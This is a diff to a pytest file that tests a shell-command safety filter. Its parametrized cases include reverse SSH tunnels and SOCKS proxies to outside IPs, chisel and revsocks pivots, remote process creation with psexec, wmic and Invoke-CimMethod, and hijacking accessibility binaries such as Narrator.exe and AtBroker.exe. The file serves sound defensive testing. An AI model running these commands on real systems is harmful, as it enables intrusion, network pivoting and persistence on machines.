@@ -58,7 +58,7 @@ def test_an_entry_that_runs_a_hidden_payload_later_blocks(command: str) -> None:
 
 
 @pytest.mark.parametrize("command", [
-    "echo 'SUBSYSTEM==\"usb\", MODE=\"0666\", RUN+=\"/usr/local/bin/usb-notify\"' | sudo tee /etc/udev/rules.d/90-u.rules",
+    "echo 'SUBSYSTEM==\"usb\", RUN+=\"/usr/local/bin/usb-notify\"' | sudo tee /etc/udev/rules.d/90-u.rules",
     "echo '0 3 * * * /home/me/.local/bin/backup --quiet' | sudo tee -a /etc/cron.d/backup",
 ])
 def test_an_entry_that_runs_an_installed_program_only_asks(command: str) -> None:
@@ -95,6 +95,8 @@ def test_one_history_step_or_only_clearing_does_not_block(command: str) -> None:
     "ssh -N -R 9000:172.16.4.10:445 ops@198.51.100.77",
     "ssh -fN -R 2200:localhost:22 me@relay.example.net",  # this machine's login port on another host
     "ssh -N -D 9050 svc@203.0.113.90",
+    "ssh -fNR 6000:10.9.0.4:6000 op@198.51.100.61",  # switches bundled with -R
+    "ssh -NfD 1081 op@198.51.100.61",
     "./chisel_linux_amd64 client 198.51.100.3:9001 R:socks",
     "./agent -connect 203.0.113.12:11601 -ignore-cert",
     "revsocks -connect 198.51.100.8:8443 -pass x",
@@ -108,6 +110,7 @@ def test_a_tunnel_that_puts_this_network_on_another_machine_blocks(command: str)
     "ssh -L 5432:db.internal:5432 bastion.example.com",
     "ssh -R 8080:localhost:3000 serveo.net",
     "ssh -D 1080 me@jump.example.com",
+    "ssh -fNL 8443:localhost:443 me@198.51.100.61",
     "ngrok http 3000",
     "cloudflared tunnel --url http://localhost:8000",
     "chisel server --port 9001 --reverse",
@@ -123,6 +126,7 @@ def test_forward_tunnels_and_dev_server_shares_do_not_block(command: str) -> Non
     r'wmic /node:"10.2.0.15" process call create "powershell -nop -c whoami"',
     r"schtasks /create /s WS-114 /ru SYSTEM /tn upd /tr C:\Windows\Temp\a.exe /sc onstart",
     "Invoke-Command -ComputerName DC01,DC02 -ScriptBlock { Get-Process }",
+    r'Invoke-CimMethod -ComputerName app7 -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine="x"}',
     r"psexec64 \\10.0.5.5 -accepteula -c C:\Users\Public\svc.exe",
 ])
 def test_running_a_program_on_another_machine_blocks(command: str) -> None:
@@ -147,6 +151,7 @@ def test_querying_another_machine_or_running_locally_does_not_block(command: str
     r"icacls C:\Windows\System32\magnify.exe /grant Everyone:F",
     r"copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\DisplaySwitch.exe",
     r"Copy-Item C:\Windows\System32\cmd.exe -Destination C:\Windows\System32\Narrator.exe -Force",
+    r"ren C:\Windows\System32\AtBroker.exe AtBroker.exe.old",  # moved away, to put another in its place
 ])
 def test_taking_over_an_accessibility_program_blocks(command: str) -> None:
     assert "block.shell.system-file-tamper" in _rules(command), command
@@ -157,7 +162,7 @@ def test_taking_over_an_accessibility_program_blocks(command: str) -> None:
     r"takeown /f C:\Users\dev\repo\locked.log",
     r"copy C:\Windows\System32\osk.exe C:\Users\dev\backup\osk.exe.bak",
 ])
-def test_reading_or_copying_away_an_accessibility_program_does_not_block(command: str) -> None:
+def test_reading_or_copying_an_accessibility_program_elsewhere_does_not_block(command: str) -> None:
     assert "block.shell.system-file-tamper" not in _rules(command), command
 
 
